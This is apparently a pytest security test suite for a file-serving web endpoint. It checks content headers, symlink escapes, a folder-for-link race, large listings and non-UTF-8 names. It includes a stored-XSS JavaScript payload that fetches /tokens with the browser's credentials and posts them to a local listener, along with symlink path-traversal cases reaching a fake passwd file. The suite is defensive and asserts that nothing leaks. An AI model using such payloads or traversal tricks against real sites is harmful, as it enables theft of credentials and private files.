"""Issue 10 for files: no script on our origin, no escape by swapping folders for links,
big folders listed off the event loop, names that are not UTF-8.

Each test here serves a files root of its own (not the session's), so it may write there.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from tests.conftest import PUBLIC, SECRET
from tests.support import Server, audited, raw_request

CSP = "sandbox; default-src 'none'"
INSIDE = b"inside the root\n"
SCRIPT_TYPES = ["evil.html", "evil.htm", "evil.svg", "evil.xml", "evil.xhtml", "evil.js",
                "evil.mjs", "evil.shtml", "evil.xsl", "evil.css", "evil.swf", "evil.bin"]
SAFE_TYPES = {"pic.png": "image/png", "pic.jpg": "image/jpeg", "pic.gif": "image/gif",
              "pic.webp": "image/webp", "doc.pdf": "application/pdf",
              "notes.txt": "text/plain; charset=utf-8", "song.mp3": "audio/mpeg",
              "clip.mp4": "video/mp4", "clip.webm": "video/webm"}


def serve(database_url: str, logs_dir: Path, root: Path, **env: str) -> Server:
    name = f"hardening-{os.urandom(3).hex()}.log"
    return Server(database_url, logs_dir / name,
                  {"EXPORTER_FILES_ROOT": str(root), **PUBLIC, **env}).start()


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`root/` (served) next to `outside/` (never served), each with files to tell apart."""
    base = tmp_path_factory.mktemp("hardening")
    root, outside = base / "root", base / "outside"
    (outside / "sub").mkdir(parents=True)
    (outside / "passwd").write_bytes(SECRET)
    (outside / "sub" / "passwd").write_bytes(SECRET)
    (outside / "outside-only.txt").write_bytes(SECRET)
    (root / "race").mkdir(parents=True)
    (root / "race" / "passwd").write_bytes(INSIDE)
    for name in [*SCRIPT_TYPES, *SAFE_TYPES]:
        (root / name).write_bytes(b"<script>alert(1)</script>")
    # Links inside the root, by every spelling: relative, up and down, absolute, chained.
    (root / "real").mkdir()
    (root / "real" / "data.txt").write_bytes(INSIDE)
    (root / "dir-link").symlink_to("real")
    (root / "abs-link.txt").symlink_to(root / "real" / "data.txt")
    (root / "chain.txt").symlink_to("dir-link/data.txt")
    (root / "real" / "up-down.txt").symlink_to("../real/./data.txt")
    (root / "out-dir").symlink_to(outside)
    (root / "out-rel").symlink_to("../outside/passwd")
    (root / "out-via-dir").symlink_to("real/../../outside/passwd")
    return base


@pytest.fixture(scope="module")
def hserver(database_url: str, logs_dir: Path, base: Path) -> Iterator[Server]:
    s = serve(database_url, logs_dir, base / "root")
    try:
        yield s
    finally:
        s.stop()


# Section 2: what a browser may run.

@pytest.mark.parametrize("name", SCRIPT_TYPES)
def test_inline_is_refused_for_types_that_can_run_script(hserver: Server, name: str) -> None:
    for method in (httpx.get, httpx.head):
        r = method(f"{hserver.url}/files/{name}", params={"disposition": "inline"})
        assert r.status_code == 200
        assert r.headers["content-disposition"].startswith("attachment;"), r.headers
        assert r.headers["content-security-policy"] == CSP
        assert r.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(("name", "kind"), SAFE_TYPES.items())
def test_inline_is_kept_for_script_free_types(hserver: Server, name: str, kind: str) -> None:
    r = httpx.get(f"{hserver.url}/files/{name}", params={"disposition": "inline"})
    assert r.status_code == 200 and r.headers["content-type"] == kind
    assert r.headers["content-disposition"] == f'inline; filename="{name}"'
    # Even text shown inline is never sniffed into HTML, and runs sandboxed if it were.
    assert r.headers["content-security-policy"] == CSP
    assert r.headers["x-content-type-options"] == "nosniff"
    plain = httpx.get(f"{hserver.url}/files/{name}")
    assert plain.headers["content-disposition"] == f'attachment; filename="{name}"'


def test_every_files_answer_is_sandboxed(hserver: Server) -> None:
    u = f"{hserver.url}/files/notes.txt"
    etag = httpx.head(u).headers["etag"]
    answers = {
        "200": httpx.get(u),
        "206": httpx.get(u, headers={"Range": "bytes=0-3"}),
        "206 multipart": httpx.get(u, headers={"Range": "bytes=0-1,4-5"}),
        "304": httpx.get(u, headers={"If-None-Match": etag}),
        "412": httpx.get(u, headers={"If-Match": '"nope"'}),
        "416": httpx.get(u, headers={"Range": "bytes=999999-"}),
        "HEAD": httpx.head(u),
        "HEAD 304": httpx.head(u, headers={"If-None-Match": etag}),
        "listing": httpx.get(f"{hserver.url}/files/"),
        "listing HEAD": httpx.head(f"{hserver.url}/files/real/"),
        "301": httpx.get(f"{hserver.url}/files/real"),
        "404": httpx.get(f"{hserver.url}/files/nothing-here"),
        "400": httpx.get(u, params={"disposition": "evil"}),
    }
    statuses = {k: r.status_code for k, r in answers.items()}
    assert statuses == {"200": 200, "206": 206, "206 multipart": 206, "304": 304, "412": 412,
                        "416": 416, "HEAD": 200, "HEAD 304": 304, "listing": 200,
                        "listing HEAD": 200, "301": 301, "404": 404, "400": 400}
    for what, r in answers.items():
        assert r.headers.get("content-security-policy") == CSP, what
        assert r.headers.get("x-content-type-options") == "nosniff", what


# Section 4: links, and a folder swapped for a link while requests run.

@pytest.mark.parametrize(("path", "body"), [
    ("dir-link/data.txt", INSIDE), ("abs-link.txt", INSIDE), ("chain.txt", INSIDE),
    ("real/up-down.txt", INSIDE), ("race/passwd", INSIDE),
])
def test_links_that_stay_inside_are_served(hserver: Server, path: str, body: bytes) -> None:
    r = raw_request(hserver.url, f"GET /files/{path} HTTP/1.1")
    assert (r.status, r.body) == (200, body)


@pytest.mark.parametrize("path", ["out-dir/passwd", "out-dir/", "out-dir/sub/passwd",
                                  "out-rel", "out-via-dir", "dir-link/../out-rel"])
def test_links_that_lead_outside_are_404(hserver: Server, path: str) -> None:
    r = raw_request(hserver.url, f"GET /files/{path} HTTP/1.1")
    assert r.status in (404,) and SECRET not in r.body and b"outside-only" not in r.body


def test_listing_shows_inner_links_and_hides_outer_ones(hserver: Server) -> None:
    names = {e["name"]: e["kind"] for e in httpx.get(f"{hserver.url}/files/").json()["entries"]}
    assert names["dir-link"] == "dir" and names["abs-link.txt"] == "file"
    assert names["chain.txt"] == "file"
    assert not {"out-dir", "out-rel", "out-via-dir"} & set(names)
    inner = httpx.get(f"{hserver.url}/files/dir-link/").json()
    assert [e["name"] for e in inner["entries"]] == ["data.txt", "up-down.txt"]


def test_folder_swapped_for_a_link_never_leaks(hserver: Server, base: Path) -> None:
    """A thread flips `race` between a real folder and a link to a folder outside the root
    while clients fetch `race/passwd` and list `race/`, for 5 s (thousands of flips and
    of requests; the assertions below hold it to more than a hundred of each kind)."""
    root = base / "root"
    aside = base / "race-aside"
    stop = threading.Event()
    flips = 0

    def flip() -> None:
        nonlocal flips
        while not stop.is_set():
            os.rename(root / "race", aside)
            (root / "race").symlink_to(base / "outside")
            time.sleep(0.0005)
            os.unlink(root / "race")
            os.rename(aside, root / "race")
            time.sleep(0.0005)
            flips += 1

    def fetch_loop(path: str) -> tuple[dict[int, int], int]:
        statuses: dict[int, int] = {}
        leaks = 0
        deadline = time.monotonic() + 5
        with httpx.Client(base_url=hserver.url, timeout=30) as client:
            while time.monotonic() < deadline:
                r = client.get(path)
                statuses[r.status_code] = statuses.get(r.status_code, 0) + 1
                if SECRET in r.content or b"outside-only" in r.content:
                    leaks += 1
        return statuses, leaks

    flipper = threading.Thread(target=flip)
    flipper.start()
    try:
        with ThreadPoolExecutor(6) as pool:
            results = list(pool.map(fetch_loop, ["/files/race/passwd"] * 4
                                    + ["/files/race/", "/files/race/sub/passwd"]))
    finally:
        stop.set()
        flipper.join()
    totals: dict[int, int] = {}
    for statuses, _ in results:
        for status, n in statuses.items():
            totals[status] = totals.get(status, 0) + n
    assert sum(leaks for _, leaks in results) == 0, totals
    assert set(totals) <= {200, 404}, totals  # above all, no 500
    # The race was run: many flips, and the real folder was found now and then.
    assert flips > 100 and totals.get(200, 0) > 20 and totals.get(404, 0) > 20, (flips, totals)
    assert raw_request(hserver.url, "GET /files/race/passwd HTTP/1.1").body == INSIDE


# Section 5: a big folder is listed off the event loop.

def test_big_folder_listing_leaves_healthz_prompt(database_url: str, logs_dir: Path,
                                                  tmp_path: Path) -> None:
    root = tmp_path / "root"
    big = root / "big"
    big.mkdir(parents=True)
    for i in range(100_000):
        os.close(os.open(big / f"f{i:06d}.bin", os.O_CREAT | os.O_WRONLY, 0o644))
    (root / "small").mkdir()
    s = serve(database_url, logs_dir, root)
    try:
        slowest = 0.0
        done = threading.Event()

        def poll() -> None:
            nonlocal slowest
            with httpx.Client(base_url=s.url, timeout=30) as client:
                while not done.is_set():
                    started = time.monotonic()
                    assert client.get("/healthz").status_code == 200
                    slowest = max(slowest, time.monotonic() - started)
                    time.sleep(0.02)

        def listing(i: int) -> httpx.Response:
            with httpx.Client(base_url=s.url, timeout=120) as client:
                if i % 2:
                    return client.get("/", params={"path": "big/"})
                return client.get("/files/big/", params={"limit": 1, "offset": i})

        poller = threading.Thread(target=poll)
        poller.start()
        try:
            time.sleep(0.2)
            with ThreadPoolExecutor(4) as pool:
                answers = list(pool.map(listing, range(4)))
        finally:
            done.set()
            poller.join()
        for i, r in enumerate(answers):
            assert r.status_code == 200, r.text[:300]
            if i % 2 == 0:
                body = r.json()
                assert body["total"] == 100_000
                assert [e["name"] for e in body["entries"]] == [f"f{i:06d}.bin"]
            else:
                assert "Showing the first 1000 of 100000 entries" in r.text
        assert slowest < 1.0, slowest
        last = httpx.get(f"{s.url}/files/big/", params={"limit": 3, "offset": 99_998}).json()
        assert [e["name"] for e in last["entries"]] == ["f099998.bin", "f099999.bin"]

        # A change to the folder is seen at once, kept index or not.
        (big / "f100000.bin").write_bytes(b"x")
        (big / "f000000.bin").unlink()
        again = httpx.get(f"{s.url}/files/big/", params={"limit": 1, "offset": 99_999}).json()
        assert again["total"] == 100_000
        assert [e["name"] for e in again["entries"]] == ["f100000.bin"]
        first = httpx.get(f"{s.url}/files/big/", params={"limit": 1}).json()
        assert [e["name"] for e in first["entries"]] == ["f000001.bin"]
    finally:
        s.stop()


def test_listing_sees_changes_at_once(hserver: Server, base: Path) -> None:
    folder = base / "root" / "changing"
    folder.mkdir()
    for round_ in range(5):
        (folder / f"n{round_}.txt").write_bytes(b"x")
        names = [e["name"] for e in
                 httpx.get(f"{hserver.url}/files/changing/").json()["entries"]]
        assert names == [f"n{i}.txt" for i in range(round_ + 1)]
        time.sleep(0.6 if round_ == 2 else 0)  # once long enough for the index to be kept


# Section 8: names that are not UTF-8.

def test_names_that_are_not_utf8_are_listed_and_served(database_url: str, logs_dir: Path,
                                                       tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (root / os.fsdecode(b"caf\xe9.txt")).write_bytes(b"latin-1 name\n")
    (root / os.fsdecode(b"dir\xff")).mkdir()
    (root / os.fsdecode(b"dir\xff") / os.fsdecode(b"\xfe\xfd.bin")).write_bytes(b"inner\n")
    (root / "caf\u00e9.txt").write_bytes(b"utf-8 name\n")  # the same name, spelt in UTF-8
    s = serve(database_url, logs_dir, root)
    try:
        r = raw_request(s.url, "GET /files/ HTTP/1.1")
        assert r.status == 200
        entries = {e["url"].removeprefix(s.url): e for e in json.loads(r.body)["entries"]}
        assert set(entries) == {"/files/caf%E9.txt", "/files/caf%C3%A9.txt", "/files/dir%FF/"}
        # JSON has no way to carry the raw bytes: the name shows U+FFFD, the URL is exact.
        assert entries["/files/caf%E9.txt"]["name"] == "caf\ufffd.txt"
        assert entries["/files/caf%C3%A9.txt"]["name"] == "caf\u00e9.txt"
        assert entries["/files/dir%FF/"]["name"] == "dir\ufffd"

        got = raw_request(s.url, "GET /files/caf%E9.txt HTTP/1.1")
        assert (got.status, got.body) == (200, b"latin-1 name\n")
        # A safe name to save as: the bytes that are not UTF-8 become U+FFFD.
        assert got.headers["content-disposition"] == (
            "attachment; filename=\"caf.txt\"; filename*=UTF-8''caf%EF%BF%BD.txt")
        assert raw_request(s.url, "GET /files/caf%C3%A9.txt HTTP/1.1").body == b"utf-8 name\n"
        assert raw_request(s.url, "HEAD /files/caf%E9.txt HTTP/1.1").status == 200
        assert raw_request(s.url, "GET /files/caf%E8.txt HTTP/1.1").status == 404

        moved = raw_request(s.url, "GET /files/dir%FF HTTP/1.1")
        assert (moved.status, moved.headers["location"]) == (301, "/files/dir%FF/")
        inner = json.loads(raw_request(s.url, "GET /files/dir%FF/ HTTP/1.1").body)
        assert inner["path"] == "dir\ufffd/"
        url, = (e["url"] for e in inner["entries"])
        assert url == f"{s.url}/files/dir%FF/%FE%FD.bin"
        assert raw_request(s.url, "GET /files/dir%FF/%FE%FD.bin HTTP/1.1").body == b"inner\n"
        # httpx sends an already-encoded URL as it is.
        assert httpx.get(url).content == b"inner\n"

        page = httpx.get(f"{s.url}/?path=dir%FF/")
        assert page.status_code == 200
        assert 'href="/files/dir%FF/%FE%FD.bin"' in page.text or \
            f'href="{s.url}/files/dir%FF/%FE%FD.bin"' in page.text
        top = httpx.get(f"{s.url}/")
        assert 'href="/?path=dir%FF/#files"' in top.text

        rows = audited(database_url, "kind = 'file' AND target IN ($1, $2)",
                       "caf\\xe9.txt", "dir\\xff/\\xfe\\xfd.bin", count=2)
        assert {r["target"] for r in rows} == {"caf\\xe9.txt", "dir\\xff/\\xfe\\xfd.bin"}
    finally:
        s.stop()


# Section 2 in a real browser: the stored-script attack of the issue, replayed.

class _Reports(http.server.BaseHTTPRequestHandler):
    """A second loopback listener: whatever a script manages to send out lands here."""

    received: list[str] = []

    def _record(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
        self.received.append(f"{self.path} {body}")
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = _record

    def log_message(self, format: str, *args: object) -> None:
        pass


def _attack(report: str) -> str:
    """Fetch /tokens with whatever credentials the browser holds; tell the page and the
    listener what came back."""
    return f"""
fetch('/tokens', {{credentials: 'include'}}).then(r => r.text()).then(t => {{
  document.title = 'READ ' + t;
  fetch('{report}/read', {{method: 'POST', mode: 'no-cors', body: t}});
}}).catch(e => {{ document.title = 'FAILED ' + e; }});
new Image().src = '{report}/ran';
"""


@pytest.mark.needs("chromium")
def test_chromium_stored_script_reads_nothing(database_url: str, logs_dir: Path,
                                              tmp_path: Path) -> None:
    from playwright.sync_api import Error, sync_playwright

    from tests.test_access import CLOSED, make_link, new_token
    from tests.test_browser import ARGS, CHROMIUM, sign_in

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Reports)
    _Reports.received = []
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    report = f"http://127.0.0.1:{listener.server_address[1]}"
    script = _attack(report)
    pub = tmp_path / "root" / "pub"
    pub.mkdir(parents=True)
    (pub / "evil.html").write_text(f"<html><body><script>{script}</script></body></html>")
    (pub / "evil.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>')
    (pub / "evil.xml").write_text(
        f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
        f"<script>{script}</script></body></html>")
    (pub / "evil.txt").write_text(f"<html><script>{script}</script></html>")

    s = Server(database_url, logs_dir / f"chromium-{os.urandom(3).hex()}.log",
               {"EXPORTER_FILES_ROOT": str(tmp_path / "root"), **CLOSED}).start()
    suffix = os.urandom(3).hex()
    admin = new_token(database_url, f"admin-{suffix}", "admin")
    low = new_token(database_url, f"low-{suffix}", "files:pub/")
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, timeout=30_000)
            try:
                context = browser.new_context(accept_downloads=True)
                context.set_default_timeout(20_000)
                page = context.new_page()
                page.goto(s.url + "/")
                sign_in(page, admin)  # the admin, signed in with the cookie
                # The cookie does open /tokens to scripts of this origin: something to steal.
                assert page.evaluate("fetch('/tokens').then(r => r.status)") == 200
                downloads: list[str] = []
                page.on("download", lambda d: downloads.append(d.suggested_filename))
                for name in ["evil.html", "evil.svg", "evil.xml", "evil.txt"]:
                    # The low-privilege token makes the link; the admin opens it.
                    link = make_link(s, low, f"/files/pub/{name}?disposition=inline")
                    # "Download is starting" is an error to goto: the browser saves the
                    # file and shows nothing.
                    with contextlib.suppress(Error):
                        page.goto(link)
                    page.wait_for_timeout(1500)
                    assert not page.title().startswith("READ"), (name, page.title())
                    if name == "evil.txt":
                        # Shown inline, as text: the markup is there, nothing ran.
                        assert "fetch('/tokens'" in page.inner_text("body")
                assert sorted(downloads) == ["evil.html", "evil.svg", "evil.xml"]
            finally:
                browser.close()
    finally:
        listener.shutdown()
        listener.server_close()
        s.stop()
    assert _Reports.received == []
